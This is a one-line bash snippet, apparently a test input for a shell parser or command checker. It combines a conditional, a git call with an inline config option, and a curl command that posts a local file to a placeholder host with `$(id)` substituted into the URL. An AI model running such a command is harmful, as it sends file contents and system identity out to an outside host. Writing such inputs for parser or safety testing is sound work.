if [[ $a -eq 1 && -f x ]]; then ((x++)); fi; git -c a.b=c log; curl -d @f https://x/$(id)
